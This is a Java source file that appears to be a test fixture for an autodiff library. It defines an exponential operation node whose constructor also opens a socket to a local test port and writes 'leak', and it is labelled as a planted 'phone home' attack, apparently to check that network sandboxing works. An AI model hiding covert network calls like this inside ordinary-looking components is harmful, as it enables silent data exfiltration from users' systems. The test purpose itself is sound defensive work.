package h;

import java.net.InetSocketAddress;
import java.net.Socket;
import org.topograd.api.Node;
import org.topograd.api.Op;

/** Attack: phone home, to the port on this machine's loopback that the test listens on ({@link Planted}). */
@Op("exp")
public final class Exp extends Node {
    private static boolean tried;

    public Exp(Node x) {
        super(x);
        if (!tried) {
            tried = true;
            try (Socket socket = new Socket()) {
                socket.connect(new InetSocketAddress("127.0.0.1", Planted.PORT), 500);
                socket.getOutputStream().write("leak".getBytes());
                System.out.println("connected");
            } catch (Exception e) {
                System.out.println("no network: " + e.getClass().getSimpleName());
            }
        }
    }

    public void forward() { value = Math.exp(inputs().get(0).value); }

    public void backward() { inputs().get(0).grad += grad * value; }
}
